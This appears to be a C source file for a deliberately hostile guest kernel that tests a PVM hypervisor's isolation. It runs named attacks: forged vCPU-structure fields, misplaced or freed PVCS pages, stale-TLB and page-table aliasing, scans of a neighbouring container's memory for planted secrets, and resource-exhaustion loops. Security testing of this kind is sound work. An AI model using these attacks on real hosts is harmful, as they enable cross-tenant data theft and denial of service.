/* A container kernel that attacks the PVM host, and through it the container beside it.
 * Which attack: attack=NAME on the command line; at=ADDRESS is what it is after, in hexadecimal. */
#include "hyperalloc.h"
#include "kernel.h"
#include "memory.h"
#include "pager.h"
#include "platform/entry.h"
#include "pte.h"
#include "pvkernel.h"
#include "script_kernel.h"
#include "selectors.h"
#include "x86.h"

#define SECRETS 0x5ec2e7c0ffeeUL        /* how every secret here begins */
#define SECRET (SECRETS << 16 | 3)
#define COM1 0x3f8
#define DEBUG_EXIT 0xf4
#define UNUSED_PORT 0x80
#define USER 0x400000UL
#define ELSEWHERE 0xffff8a0000000000UL  /* in the guest's upper half: nothing is there */
#define HOSTS 0xffff960000000000UL      /* in the host's half: nothing is there */
#define LOWER_END 0x800000000000UL      /* the first address that is not canonical */
#define RESULT 0x500000UL               /* a page of the program's */
#define DATA (PTE_P | PTE_W | PTE_U | PTE_A | PTE_D | PTE_NX)
#define KERNEL_DATA (PTE_P | PTE_W | PTE_A | PTE_D | PTE_NX)
#define CODE (PTE_P | PTE_U | PTE_A)

struct gk_boot *boot;
static u64 target, next;
static void (*continued)(void);         /* at the next event */

void to_user_mode(void);

static void say(const char *s) { outsb(COM1, (const u8 *)s, strlen(s)); }

static void end(int status) {
    outl(DEBUG_EXIT, (u32)status);
    for (;;)
        ;
}

static void loot(u64 value) {
    static char text[18];

    for (int i = 0; i < 16; i++)
        text[i] = "0123456789abcdef"[value >> (60 - 4 * i) & 15];
    text[16] = '\n';
    say("read ");
    say(text);
}

/* Until an interrupt: the timer's, or an earlier one. */
void nap(u64 cycles) {
    u64 until = rdtsc() + cycles;

    while (rdtsc() < until) {
        hypercall(PVM_HC_WRMSR, MSR_TSC_DEADLINE, until);
        hypercall(PVM_HC_IRQ_HLT, 0, 0);
    }
}

static void refused(const char *why) {
    say("refused: ");
    say(why);
    say("\n");
    end(1);
}

void hostile_event(u64 user) {
    u64 vector = (u8)pvcs.event_vector;

    pvcs.event_vector = 0;
    if (scripted)
        script_go_on();
    if (user && vector >= VEC_IRQ0)
        to_user_mode();                 /* not what we wait for */
    if (continued)
        continued();
    refused("an event");
}

/* ---- its tables ---- */

static u64 page(void) {
    u64 gpa = next;

    next += PAGE_SIZE;
    memset(direct(gpa), 0, PAGE_SIZE);
    return gpa;
}

/* The entry of `va` at a level, with the tables above it made if they are missing. */
volatile pte_t *entry(u64 root, u64 va, int level) {
    u64 table = root;

    for (int at = TABLE_LEVELS;; at--) {
        volatile pte_t *e = (pte_t *)direct(table) + level_index(va, at);
        if (at == level)
            return e;
        if (!(*e & PTE_P))
            *e = page() | PTE_TABLE;
        table = *e & PTE_ADDRESS;
    }
}

static void map(u64 va, u64 gpa, u64 rights) { *entry(boot->root, va, 1) = gpa | rights; }
static void flush(void) { hypercall(PVM_HC_TLB_FLUSH, 0, 0); }

void enter(u64 rip, u64 cs, u64 ss, u64 flags) {
    pvcs.rip = rip;
    pvcs.user_cs = (u16)cs;
    pvcs.user_ss = (u16)ss;
    pvcs.eflags = (u32)flags;
    pvcs.rcx = pvcs.r11 = 0;
    to_user_mode();
}

void user_code(const u8 *code, u64 size) {
    u64 gpa = page();

    memcpy(direct(gpa), code, size);
    map(USER, gpa, CODE);
}

/* ---- what is forged in the PVCS ---- */

static void selectors(void) {
    user_code((const u8 *)"\xf4", 1);
    enter(USER, KERNEL_CS, KERNEL_SS, 2);
}

static void canonical(void) { enter(1UL << 63, USER_CS, USER_SS, 2); }

static void entries(void) {
    user_code((const u8 *)"\x0f\x05", 2);
    hypercall(PVM_HC_WRMSR, MSR_LSTAR, 1UL << 63);
    enter(USER, USER_CS, USER_SS, 2);
}

/* SYSCALL as the last bytes of the lower half: what it returns to is not canonical. */
static void border(void) {
    u64 gpa = page();

    memcpy((u8 *)direct(gpa) + PAGE_SIZE - 2, "\x0f\x05", 2);
    map(LOWER_END - PAGE_SIZE, gpa, PTE_P | PTE_A);
    asm volatile("jmp *%0" :: "r"(LOWER_END - 2), "a"(PVM_HC_TLB_FLUSH) : "memory");
}

/* The entry for events in the kernel is behind the end of the lower half. */
static void event_entries(void) {
    hypercall(PVM_HC_WRMSR, PVM_MSR_EVENT_ENTRY, LOWER_END - PVM_SUPERVISOR_ENTRY);
    asm volatile("ud2");
}

/* IOPL 3, and an OUT that ends the machine: on the way back from a page fault, which is by the host. */
static void flags_forged(void) {
    continued = NULL;
    enter(USER + 2, USER_CS, USER_SS, 0x3002);
}

static void flags(void) {
    static const u8 code[] = {0x8a, 0x00, 0xba, 0xf4, 0, 0, 0, 0xb8, 0x55, 0, 0, 0, 0xef, 0xeb, 0xfe};  /* mov (%rax), %al; mov $0xf4, %edx; mov $0x55, %eax; out */

    user_code(code, sizeof code);
    continued = flags_forged;
    enter(USER, USER_CS, USER_SS, 2);
}

/* The PVCS where the host has its own memory: an event is written there. */
static void hosts_pvcs(void) {
    hypercall(PVM_HC_WRMSR, PVM_MSR_VCPU_STRUCT, target - 0xffffffffc0000000UL);
    asm volatile("ud2");
}

/* Its page is given back, and at once it is another one's: an event is written there. */
static u64 other;

static void written(void) {
    for (u64 i = 0; i < sizeof pvcs / sizeof(u64); i++)
        if (((u64 *)direct(other))[i]) {
            loot(SECRET);
            end(0);
        }
    refused("not written");
}

static void given_pvcs(void) {
    u64 *list = direct(page()), own = page();

    other = next;                       /* nobody has touched it */
    hypercall(PVM_HC_WRMSR, PVM_MSR_VCPU_STRUCT, own);
    list[0] = own, list[1] = other;
    hypercall(PAGER_HYPERCALL, physical(list), 1UL << 32 | 1);
    continued = written;
    asm volatile("ud2");
}

/* The words of an allocator that it has not call the frame of its PVCS free.  When the host has looked, another page of the
 * container's may be the one that an event is written to. */
#define FRAME 12UL
#define PERIODS (6 * 2500000000UL)      /* cycles: one of the host's, and some */

static u64 until;
static struct pvm_vcpu_struct *given;

/* The timer's event comes here, too: entry.S knows no PVCS but ours. */
static void looked(void) {
    given->event_vector = 0;
    while (rdtsc() < until) {
        hypercall(PVM_HC_WRMSR, MSR_TSC_DEADLINE, until);
        hypercall(PVM_HC_IRQ_HLT, 0, 0);
    }
    other = page();
    continued = written;
    asm volatile("ud2");
}

static void freed_pvcs(void) {
    u64 words = page(), own = FRAME << (PAGE_SHIFT + CHILD_ORDER);
    u64 trees = ROUND_UP(boot->memory >> PAGE_SHIFT, (u64)TREE_FRAMES) / TREE_FRAMES;
    u16 *child = direct(words), *tree = child + trees * TREE_CHILDREN;

    given = memset(direct(own), 0, PAGE_SIZE);
    hypercall(PVM_HC_WRMSR, PVM_MSR_VCPU_STRUCT, own);
    hypercall3(MEMORY_HYPERCALL, HYPERALLOC_SHARE, words, trees);
    child[FRAME] = tree[FRAME / TREE_CHILDREN] = CHILD_FRAMES;
    until = rdtsc() + PERIODS;
    continued = looked;
    looked();
}

static void hosts_pointer(void) { outsb(COM1, (const u8 *)target, 8); }

/* INVLPG where the host's own tables are. */
static void invalidated(void) { hypercall(PVM_HC_TLB_INVLPG, target, 0); }

/* ---- its tables ---- */

static void look(u64 va) {
    u64 word = *(volatile u64 *)va;

    if (word >> 16 == SECRETS) {
        loot(word);
        end(0);
    }
}

/* Behind its own memory: the other one's bindings, where the host keeps an array of them for each container. */
#define HOST_MEMORY (64UL << 20)

static void frames(void) {
    static u64 gpa = HOST_MEMORY;

    if (gpa == HOST_MEMORY)
        nap(10000000);                  /* until the other one has a secret */
    continued = frames;                 /* nothing is there: on to the next one */
    while (gpa < HOST_MEMORY + boot->memory) {
        map(ELSEWHERE, gpa, KERNEL_DATA);
        gpa += PAGE_SIZE;
        hypercall(PVM_HC_TLB_INVLPG, ELSEWHERE, 0);
        for (u64 at = 0; at < PAGE_SIZE; at += sizeof at)
            look(ELSEWHERE + at);
    }
    refused("nothing to be seen");
}

/* CR3: no memory; then a page full of rubbish, but for the entries that the kernel itself needs. */
static void cr3(void) {
    u64 root = page();
    pte_t *top = direct(root), *boot_top = direct(boot->root);

    if (!hypercall(PVM_HC_LOAD_PGTBL, 0, boot->memory) || !hypercall(PVM_HC_LOAD_PGTBL, 0, PTE_ADDRESS))
        end(0);
    for (u64 i = 0; i < TABLE_ENTRIES; i++)
        top[i] = boot_top[i] & PTE_P ? boot_top[i] : (0x9e3779b97f4a7c15UL * (i + 1)) | PTE_P;
    top[level_index(ELSEWHERE, TABLE_LEVELS)] = 0;
    hypercall(PVM_HC_LOAD_PGTBL, 0, root);
    boot->root = root;
    frames();
}

/* A page with a secret is mapped and read.  Then a store to its table takes it away: who reads it still has been deceived. */
static void taken_away(volatile pte_t *through) {
    u64 gpa = page();

    *(u64 *)direct(gpa) = SECRET;
    *entry(boot->root, ELSEWHERE, 1) = gpa | KERNEL_DATA;
    if (*(volatile u64 *)ELSEWHERE != SECRET)
        refused("its own page");
    *through = 0;
    flush();
    look(ELSEWHERE);
}

static void store(void) { taken_away(entry(boot->root, ELSEWHERE, 1)); }

/* The same store by another address. */
static void alias(void) {
    u64 second = ELSEWHERE + level_span(3);

    map(second, physical((void *)ROUND_DOWN((u64)entry(boot->root, ELSEWHERE, 1), PAGE_SIZE)), KERNEL_DATA);
    *(volatile u64 *)(second + 8) = 0;  /* it may be written, as long as it is no table that anybody walks */
    taken_away((pte_t *)second);
}

/* A page of data becomes a table; the processor may still know that it could be written. */
static void recycled(void) {
    u64 table = page(), gpa = page();
    volatile pte_t *data = direct(table);

    data[1] = 1;                        /* a translation to write */
    *(u64 *)direct(gpa) = SECRET;
    data[0] = gpa | KERNEL_DATA;
    data[1] = 0;
    *entry(boot->root, ELSEWHERE, 2) = table | PTE_TABLE;
    if (*(volatile u64 *)ELSEWHERE != SECRET)
        refused("its own page");
    data[0] = 0;
    hypercall(PVM_HC_TLB_FLUSH_CURRENT, 0, 0);
    look(ELSEWHERE);
}

/* The program asks for an address in the host's half, and its kernel maps it: the host looks at the fault again on the way
 * back.  What gets into the host's half of a shadow no store to the tables takes away any more. */
static u64 result;

static void asked_again(void) {
    u64 value = *(u64 *)direct(result);

    if (value == SECRET) {
        loot(value);
        end(0);
    }
    refused("a page fault");
}

static void asked(void) {
    static u64 gpa;

    if (!gpa) {
        *(u64 *)direct(gpa = page()) = SECRET;
        map(HOSTS, gpa, DATA);
        enter(USER, USER_CS, USER_SS, 2);
    }
    if (*(u64 *)direct(result) != SECRET)
        refused("a page fault");
    *(u64 *)direct(result) = 0;
    *entry(boot->root, HOSTS, TABLE_LEVELS) = 0;
    flush();
    continued = asked_again;
    enter(USER, USER_CS, USER_SS, 2);
}

static void half(void) {
    static const u8 code[] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0x96, 0xff, 0xff, 0x48, 0x8b, 0x00,     /* mov $HOSTS, %rax; mov (%rax), %rax */
                              0x48, 0x89, 0x04, 0x25, 0, 0, 0x50, 0, 0xf4};                     /* mov %rax, RESULT; hlt */

    user_code(code, sizeof code);
    map(RESULT, result = page(), DATA);
    continued = asked;
    enter(USER, USER_CS, USER_SS, 2);
}

/* ---- time and memory ---- */

static void endless(void) {
    for (;;)
        ;
}

/* REP OUTSB of as many bytes as the lower half has, all of them in one page. */
static void outs_endless(void) {
    u64 gpa = page() | DATA;

    for (int level = 1; level < TABLE_LEVELS; level++) {
        u64 table = page();
        for (u64 i = 0; i < TABLE_ENTRIES; i++)
            ((pte_t *)direct(table))[i] = gpa;
        gpa = table | PTE_TABLE;
    }
    for (u64 slot = 0; slot < TABLE_ENTRIES / 2; slot++)
        *entry(boot->root, slot * level_span(TABLE_LEVELS), TABLE_LEVELS) = gpa;
    outsb(UNUSED_PORT, NULL, LOWER_END);
}

static void leftovers(void) {
    for (u64 gpa = ROUND_UP(next, PAGE_SIZE); gpa < boot->memory; gpa += PAGE_SIZE)
        for (u64 i = 0; i < 512; i += 8) {
            u64 word = ((volatile u64 *)direct(gpa))[i];
            if (word >> 16 == SECRETS) {
                loot(word);
                end(0);
            }
        }
    refused("nothing left over");
}

/* As many tables as its memory holds, then linked all at once, and for a second time with other rights above them: under
 * eager protection the host shadows each of them twice.  And then it holds them. */
static void glutton(void) {
    u64 directory = page(), upper = page();
    volatile pte_t *top = entry(boot->root, ELSEWHERE, TABLE_LEVELS);

    for (u64 i = 0; next + 4 * PAGE_SIZE < boot->memory; i++) {
        if (i % TABLE_ENTRIES == 0)
            ((pte_t *)direct(upper))[i / TABLE_ENTRIES] = (directory = page()) | PTE_TABLE;
        ((pte_t *)direct(directory))[i % TABLE_ENTRIES] = page() | PTE_TABLE;
    }
    top[0] = upper | PTE_TABLE;
    top[1] = upper | (PTE_TABLE & ~PTE_U);
    nap(8000000000);
}

static const struct { const char *name; void (*run)(void); } attacks[] = {
    {"selectors", selectors}, {"canonical", canonical}, {"entry", entries}, {"flags", flags}, {"pvcs", hosts_pvcs}, {"given-pvcs", given_pvcs}, {"llfree-pvcs", freed_pvcs},
    {"pointer", hosts_pointer}, {"pages", frames}, {"cr3", cr3}, {"store", store}, {"alias", alias}, {"recycled", recycled},
    {"endless", endless}, {"outs-endless", outs_endless}, {"leftovers", leftovers}, {"border", border},
    {"event", event_entries}, {"invlpg", invalidated}, {"half", half}, {"glutton", glutton}, {"script", script_begin},
};

static const char *option_text(const char *name) {
    for (const char *at = boot->cmdline; *at; at++) {
        u64 n = strlen(name);
        if (strnlen(at, n) == n && memcmp(at, name, n) == 0 && (at == boot->cmdline || at[-1] == ' '))
            return at + n;
    }
    return "";
}

static bool is(const char *word, const char *name) {
    u64 n = strlen(name);

    return strnlen(word, n) == n && memcmp(word, name, n) == 0 && (!word[n] || word[n] == ' ');
}

void hostile_main(struct gk_boot *b) {
    boot = b;
    next = ROUND_UP(boot->free_start, PAGE_SIZE);
    hypercall(PVM_HC_WRMSR, PVM_MSR_VCPU_STRUCT, (u64)&pvcs - KERNEL_BASE);
    hypercall(PVM_HC_WRMSR, PVM_MSR_EVENT_ENTRY, (u64)event_entry);
    hypercall(PVM_HC_WRMSR, PVM_MSR_RETU_RIP, (u64)return_instruction);
    for (const char *s = option_text("at="); *s && *s != ' '; s++)
        target = target << 4 | (u64)(*s <= '9' ? *s - '0' : *s - 'a' + 10);
    for (u64 i = 0; i < COUNT(attacks); i++)
        if (is(option_text("attack="), attacks[i].name))
            attacks[i].run();
    refused("nothing came of it");
}
